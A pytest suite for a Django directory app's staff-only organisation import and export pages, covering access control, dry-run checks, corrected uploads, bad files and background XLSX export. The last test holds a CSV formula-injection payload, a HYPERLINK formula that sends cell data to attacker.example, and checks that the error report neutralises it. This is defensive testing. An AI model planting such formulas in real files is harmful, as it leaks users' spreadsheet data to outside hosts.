"""The import and export pages: who may use them, the whole flow, and bad files."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from playwright.sync_api import expect

from biocluster.audit.models import AuditEvent
from biocluster.directory import exporting
from biocluster.directory.importing import services
from biocluster.directory.models import Organisation
from biocluster.directory.models_export import ExportJob
from biocluster.directory.models_import import ImportJob, ImportStatus
from biocluster.directory.tests.factories import OrganisationFactory

pytestmark = pytest.mark.django_db

WITH_ERROR = "Nom,Type,Site web\nAlpha,startup,alpha.example.org\nBeta,spaceship,beta.example.org\nGénéthon,research_lab,\n"
CORRECTED = (
    "Nom,Type,Site web\nAlpha,startup,alpha.example.org\nBeta,sme,beta.example.org\nGénéthon,research_lab,\n"
)


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def staff_client(client, staff_user):
    client.force_login(staff_user)
    return client


def csv_upload(content: str | bytes, name="organisations.csv"):
    data = content.encode("utf-8") if isinstance(content, str) else content
    file = io.BytesIO(data)
    file.name = name
    return file


def stored_files(settings):
    folder = settings.MEDIA_ROOT / "imports"
    return (
        sorted(p.name for p in folder.glob("*.*") if p.suffix in (".csv", ".xlsx")) if folder.exists() else []
    )


def upload(client, content, name="organisations.csv"):
    return client.post(reverse("directory:import_upload"), {"file": csv_upload(content, name)})


def mapping_data(job, **changes):
    data = {f"column_{i}": code for i, code in enumerate(job.mapping)}
    data.update(changes)
    return data


# --------------------------------------------------------------------------- who may


def _urls(job):
    return [
        ("get", reverse("directory:import_upload")),
        ("get", reverse("directory:import_template")),
        ("get", reverse("directory:import_detail", args=[job.pk])),
        ("get", reverse("directory:import_progress", args=[job.pk])),
        ("get", reverse("directory:import_errors", args=[job.pk])),
        ("post", reverse("directory:import_check", args=[job.pk])),
        ("post", reverse("directory:import_replace_file", args=[job.pk])),
        ("post", reverse("directory:import_apply", args=[job.pk])),
        ("get", reverse("directory:export_csv")),
        ("post", reverse("directory:export_xlsx")),
    ]


@pytest.fixture
def job(staff_user):
    return services.start_job(
        actor=staff_user, upload=SimpleUploadedFile("organisations.csv", WITH_ERROR.encode())
    )


def test_anonymous_visitors_are_sent_to_log_in(client, job):
    for method, url in _urls(job):
        response = getattr(client, method)(url)
        assert response.status_code == 302, url
        assert response.url.startswith(reverse("account_login")), url


def test_people_who_are_not_staff_are_refused(client, member, organisation_administrator, job):
    for user in (member, organisation_administrator):
        client.force_login(user)
        for method, url in _urls(job):
            assert getattr(client, method)(url).status_code == 403, (user, url)
    job.refresh_from_db()
    assert job.status == ImportStatus.UPLOADED
    assert not ExportJob.objects.exists()


def test_the_staff_view_links_to_import_and_export(staff_client):
    page = staff_client.get(reverse("directory:organisation_manage") + "?source=seed").content.decode()
    assert reverse("directory:import_upload") in page
    assert reverse("directory:export_csv") + "?source=seed" in page
    assert reverse("directory:export_xlsx") + "?source=seed" in page


# --------------------------------------------------------------------------- the journey


def test_upload_check_fix_and_apply(staff_client, staff_user, settings, django_capture_on_commit_callbacks):
    page = staff_client.get(reverse("directory:import_upload")).content.decode()
    assert 'type="file"' in page and ">Upload</button>" in page and "File (CSV or XLSX)" in page

    response = upload(staff_client, WITH_ERROR)
    job = ImportJob.objects.get()
    assert response.status_code == 302 and response.url == reverse("directory:import_detail", args=[job.pk])
    assert job.created_by == staff_user and job.original_name == "organisations.csv"
    assert job.mapping == ["name", "kind", "website"]

    page = staff_client.get(response.url).content.decode()
    assert "Column mapping" in page and "Check (dry run)" in page and "Alpha · Beta · Généthon" in page

    with django_capture_on_commit_callbacks(execute=True):
        response = staff_client.post(reverse("directory:import_check", args=[job.pk]), mapping_data(job))
    assert response.status_code == 302
    job.refresh_from_db()
    assert job.status == ImportStatus.CHECKED and job.error_count == 1

    page = staff_client.get(reverse("directory:import_detail", args=[job.pk])).content.decode()
    assert "1 error must be fixed" in page
    assert "<td>3</td>\n        <td>Type</td>\n        <td>spaceship</td>" in page
    assert "Upload a corrected file" in page and "Corrected file" in page
    assert "disabled" in page.split("Apply import")[0].rsplit("<button", 1)[1]
    assert not Organisation.objects.exists()

    # Applying anyway is refused.
    response = staff_client.post(
        reverse("directory:import_apply", args=[job.pk]), {"default_decision": "merge"}
    )
    assert response.status_code == 302 and not Organisation.objects.exists()

    with django_capture_on_commit_callbacks(execute=True):
        response = staff_client.post(
            reverse("directory:import_replace_file", args=[job.pk]),
            {"file": csv_upload(CORRECTED, "fixed.csv")},
        )
    assert response.status_code == 302
    job.refresh_from_db()
    assert job.status == ImportStatus.CHECKED and job.error_count == 0 and job.original_name == "fixed.csv"
    assert len(stored_files(settings)) == 1  # the first file is gone

    page = staff_client.get(reverse("directory:import_detail", args=[job.pk])).content.decode()
    assert "No errors: the file can be imported." in page
    button = page.split("Apply import")[0].rsplit("<button", 1)[1]
    assert "disabled" not in button

    with django_capture_on_commit_callbacks(execute=True):
        response = staff_client.post(
            reverse("directory:import_apply", args=[job.pk]), {"default_decision": "merge"}
        )
    job.refresh_from_db()
    assert job.status == ImportStatus.APPLIED and job.applied_by == staff_user
    assert sorted(Organisation.objects.values_list("name", flat=True)) == ["Alpha", "Beta", "Généthon"]
    assert AuditEvent.objects.filter(action="directory.organisation.imported", actor=staff_user).count() == 3
    page = staff_client.get(reverse("directory:import_detail", args=[job.pk])).content.decode()
    assert "Import applied" in page and "3 organisations created" in page
    assert "Check (dry run)" not in page and "Upload a corrected file" not in page


def test_decisions_on_likely_duplicates_are_taken_from_the_form(
    staff_client, django_capture_on_commit_callbacks
):
    existing = OrganisationFactory(name="Alpha", website="")
    OrganisationFactory(name="Beta")
    upload(staff_client, CORRECTED)
    job = ImportJob.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        staff_client.post(reverse("directory:import_check", args=[job.pk]), mapping_data(job))
    page = staff_client.get(reverse("directory:import_detail", args=[job.pk])).content.decode()
    assert "Likely duplicates" in page
    assert reverse("directory:organisation_detail", args=[existing.pk]) in page
    assert "Merge into the existing one" in page and "Create anyway" in page and "Skip" in page
    with django_capture_on_commit_callbacks(execute=True):
        staff_client.post(
            reverse("directory:import_apply", args=[job.pk]),
            {"row_2": "merge", "row_3": "create", "default_decision": "skip"},
        )
    job.refresh_from_db()
    assert (job.created_count, job.merged_count, job.skipped_count) == (2, 1, 0)
    existing.refresh_from_db()
    assert existing.website == "https://alpha.example.org"
    assert Organisation.objects.filter(name="Beta").count() == 2


def test_a_second_apply_does_nothing(staff_client, django_capture_on_commit_callbacks):
    upload(staff_client, CORRECTED)
    job = ImportJob.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        staff_client.post(reverse("directory:import_check", args=[job.pk]), mapping_data(job))
    for _ in range(2):
        with django_capture_on_commit_callbacks(execute=True):
            staff_client.post(reverse("directory:import_apply", args=[job.pk]), {"default_decision": "merge"})
    assert Organisation.objects.count() == 3


# --------------------------------------------------------------------------- bad files and mappings


@pytest.mark.parametrize(
    ("content", "name", "text"),
    [
        (b"", "empty.csv", "The submitted file is empty."),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3 binary", "report.pdf", "This is not a CSV or XLSX file."),
        (b"\x89PNG\r\n\x1a\nimage", "logo.csv", "This is not a CSV or XLSX file."),
        (b"PK\x03\x04broken", "book.xlsx", "This XLSX file cannot be opened"),
        (b"Nom,Type\n", "headers.csv", "no rows below them"),
    ],
)
def test_bad_files_get_a_clear_error_and_save_nothing(staff_client, settings, content, name, text):
    response = upload(staff_client, content, name)
    assert response.status_code == 400
    assert text in response.content.decode()
    assert not ImportJob.objects.exists()
    assert stored_files(settings) == []


def test_files_over_the_size_limit_are_refused(staff_client, settings):
    settings.DIRECTORY_IMPORT_MAX_BYTES = 50
    response = upload(staff_client, CORRECTED)
    assert response.status_code == 400
    assert "larger than" in response.content.decode()
    assert not ImportJob.objects.exists() and stored_files(settings) == []


def test_the_size_limit_is_50_mb():
    assert services.max_upload_bytes() == 50 * 1024 * 1024


def test_a_missing_file_is_an_error(staff_client):
    response = staff_client.post(reverse("directory:import_upload"), {})
    assert response.status_code == 400 and "This field is required." in response.content.decode()


@pytest.mark.parametrize(
    ("changes", "text"),
    [
        ({"column_1": "name"}, "are all mapped to “Name”"),
        ({"column_0": ""}, "No column is mapped to “Name”"),
        ({"column_0": "not_a_field"}, "Select a valid choice"),
    ],
)
def test_a_wrong_mapping_gets_a_clear_error_and_changes_nothing(staff_client, job, changes, text):
    response = staff_client.post(
        reverse("directory:import_check", args=[job.pk]), mapping_data(job, **changes)
    )
    assert response.status_code == 400
    assert text in response.content.decode()
    job.refresh_from_db()
    assert job.mapping == ["name", "kind", "website"] and job.status == ImportStatus.UPLOADED
    assert job.report == {}


def test_a_corrected_file_with_other_columns_asks_for_the_mapping_again(staff_client, job):
    response = staff_client.post(
        reverse("directory:import_replace_file", args=[job.pk]), {"file": csv_upload("Whatever,Else\na,b\n")}
    )
    assert response.status_code == 302
    job.refresh_from_db()
    assert job.status == ImportStatus.UPLOADED and job.headers == ["Whatever", "Else"]
    page = staff_client.get(reverse("directory:import_detail", args=[job.pk])).content.decode()
    assert "check the mapping" in page


def test_a_bad_corrected_file_keeps_the_previous_one(staff_client, job, settings):
    before = stored_files(settings)
    response = staff_client.post(
        reverse("directory:import_replace_file", args=[job.pk]), {"file": csv_upload(b"", "empty.csv")}
    )
    assert response.status_code == 400
    assert stored_files(settings) == before
    job.refresh_from_db()
    assert job.headers == ["Nom", "Type", "Site web"]


# --------------------------------------------------------------------------- progress and errors file


def test_the_progress_bar_polls_while_the_job_runs(staff_client, job):
    ImportJob.objects.filter(pk=job.pk).update(status=ImportStatus.APPLYING, total_rows=10, processed_rows=4)
    page = staff_client.get(reverse("directory:import_detail", args=[job.pk])).content.decode()
    assert '<progress value="4" max="10"' in page and 'hx-trigger="every 1s"' in page
    partial = staff_client.get(reverse("directory:import_progress", args=[job.pk]), HTTP_HX_REQUEST="true")
    assert partial.status_code == 200
    assert partial.content.decode().lstrip().startswith('<section id="import-progress"')
    assert "<html" not in partial.content.decode()

    ImportJob.objects.filter(pk=job.pk).update(status=ImportStatus.APPLIED)
    done = staff_client.get(reverse("directory:import_progress", args=[job.pk]), HTTP_HX_REQUEST="true")
    assert done.headers["HX-Refresh"] == "true"


def test_every_error_can_be_downloaded(staff_client, job, monkeypatch, django_capture_on_commit_callbacks):
    monkeypatch.setattr(services, "ERRORS_KEPT", 1)
    content = "Nom,Type\n" + "".join(f"Org {i},spaceship\n" for i in range(5))
    with django_capture_on_commit_callbacks(execute=True):
        staff_client.post(
            reverse("directory:import_replace_file", args=[job.pk]), {"file": csv_upload(content)}
        )
    page = staff_client.get(reverse("directory:import_detail", args=[job.pk])).content.decode()
    assert "and 4 more errors" in page
    response = staff_client.get(reverse("directory:import_errors", args=[job.pk]))
    lines = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
    assert lines[0] == "Row,Column,Value,Error"
    assert [line.split(",")[0] for line in lines[1:]] == ["2", "3", "4", "5", "6"]


# --------------------------------------------------------------------------- export


def test_the_csv_export_follows_the_filters(staff_client):
    OrganisationFactory(name="Alpha", kind="startup")
    OrganisationFactory(name="Hidden", kind="startup", is_listed=False)
    OrganisationFactory(name="Lab", kind="research_lab")
    response = staff_client.get(reverse("directory:export_csv"), {"kind": "startup"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="directory-')
    lines = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
    assert lines[0].startswith("name,acronym,kind,")
    assert sorted(line.split(",")[0] for line in lines[1:]) == ["Alpha", "Hidden"]  # staff see unlisted ones


def test_the_xlsx_export_is_written_in_the_background_then_offered(
    staff_client, staff_user, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(exporting, "CHUNK", 2)
    seen = []
    progress = exporting.write_xlsx

    def watched(queryset, report):
        def spy(written):
            report(written)
            seen.append(ExportJob.objects.get().processed_rows)

        return progress(queryset, spy)

    monkeypatch.setattr(exporting, "write_xlsx", watched)
    for name in ("Alpha", "Beta", "Gamma", "Delta", "Epsilon"):
        OrganisationFactory(name=name, kind="startup")
    OrganisationFactory(name="Lab", kind="research_lab")
    url = reverse("directory:export_xlsx") + "?kind=startup"
    with django_capture_on_commit_callbacks() as callbacks:
        response = staff_client.post(url)
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response.url == reverse("directory:export_detail", args=[job.pk])
    # Queued: the page polls its progress.
    page = staff_client.get(response.url).content.decode()
    assert reverse("directory:export_progress", args=[job.pk]) in page and "Download" not in page
    assert staff_client.get(reverse("directory:export_progress", args=[job.pk])).status_code == 200
    assert staff_client.get(reverse("directory:export_download", args=[job.pk])).status_code == 302

    for callback in callbacks:
        callback()
    job.refresh_from_db()
    assert (job.status, job.total_rows, job.processed_rows) == ("done", 5, 5)
    assert seen == [2, 4]  # the progress was saved as the rows were written
    assert AuditEvent.objects.filter(action="directory.export.started", actor=staff_user).count() == 1
    refresh = staff_client.get(reverse("directory:export_progress", args=[job.pk]), HTTP_HX_REQUEST="true")
    assert refresh.headers["HX-Refresh"] == "true"
    page = staff_client.get(reverse("directory:export_detail", args=[job.pk])).content.decode()
    assert reverse("directory:export_download", args=[job.pk]) in page
    response = staff_client.get(reverse("directory:export_download", args=[job.pk]))
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("name", "acronym", "kind")
    assert sorted(row[0] for row in rows[1:]) == ["Alpha", "Beta", "Delta", "Epsilon", "Gamma"]


def test_a_failed_export_says_so(staff_client, monkeypatch, django_capture_on_commit_callbacks):
    def broken(queryset, progress):
        raise OSError("disk full")

    monkeypatch.setattr(exporting, "write_xlsx", broken)
    with django_capture_on_commit_callbacks() as callbacks:
        staff_client.post(reverse("directory:export_xlsx"))
    for callback in callbacks:
        callback()  # the task backend records the task's failure; the job records it too
    job = ExportJob.objects.get()
    assert job.status == "failed"
    assert "disk full" in staff_client.get(reverse("directory:export_detail", args=[job.pk])).content.decode()


def test_the_xlsx_export_refuses_invalid_filters(staff_client):
    assert staff_client.post(reverse("directory:export_xlsx") + "?kind=spaceship").status_code == 400
    assert not ExportJob.objects.exists()


def test_invalid_export_filters_are_a_bad_request(staff_client):
    assert staff_client.get(reverse("directory:export_csv"), {"kind": "spaceship"}).status_code == 400


def test_the_template_lists_the_importable_columns(staff_client):
    response = staff_client.get(reverse("directory:import_template"))
    lines = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
    assert lines[0].split(",")[:3] == ["name", "acronym", "kind"] and lines[1].startswith("Example Biotech")


# --------------------------------------------------------------------------- in a browser


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_staff_import_a_csv_with_an_error_row_fix_it_and_apply_it(page, staff_user, tmp_path):
    with_error, corrected = tmp_path / "organisations.csv", tmp_path / "organisations-fixed.csv"
    with_error.write_text(WITH_ERROR, encoding="utf-8")
    corrected.write_text(CORRECTED, encoding="utf-8")
    page.goto("/accounts/login/")
    page.locator("input[name=login]").fill(staff_user.email)
    page.locator("input[name=password]").fill("correct-horse-battery")
    page.locator("form button[type=submit]").last.click()
    page.wait_for_url(lambda url: "/accounts/login" not in url)

    page.goto(reverse("directory:organisation_manage"))
    page.get_by_role("button", name="Import a file").click()  # a link styled as a button
    page.get_by_label("File (CSV or XLSX)").set_input_files(str(with_error))
    page.get_by_role("button", name="Upload", exact=True).click()
    expect(page.get_by_role("heading", name="Column mapping")).to_be_visible()
    expect(page.get_by_label("Nom")).to_have_value("name")
    page.get_by_role("button", name="Check (dry run)").click()

    expect(page.locator("#import-errors")).to_contain_text("spaceship")
    expect(page.get_by_role("button", name="Apply import")).to_be_disabled()
    page.get_by_label("Corrected file").set_input_files(str(corrected))
    page.get_by_role("button", name="Upload", exact=True).click()

    expect(page.locator("#import-no-errors")).to_be_visible()
    page.get_by_role("button", name="Apply import").click()
    expect(page.locator("#import-result")).to_contain_text("3 organisations created")
    assert sorted(Organisation.objects.values_list("name", flat=True)) == ["Alpha", "Beta", "Généthon"]


def test_the_error_report_never_holds_a_formula(staff_client, job, django_capture_on_commit_callbacks):
    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
    content = f'Nom,Type\nOrg,"{formula.replace(chr(34), chr(34) * 2)}"\n'
    with django_capture_on_commit_callbacks(execute=True):
        staff_client.post(
            reverse("directory:import_replace_file", args=[job.pk]), {"file": csv_upload(content)}
        )
    response = staff_client.get(reverse("directory:import_errors", args=[job.pk]))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + formula in cells
    assert not any(cell.startswith("=") for cell in cells)
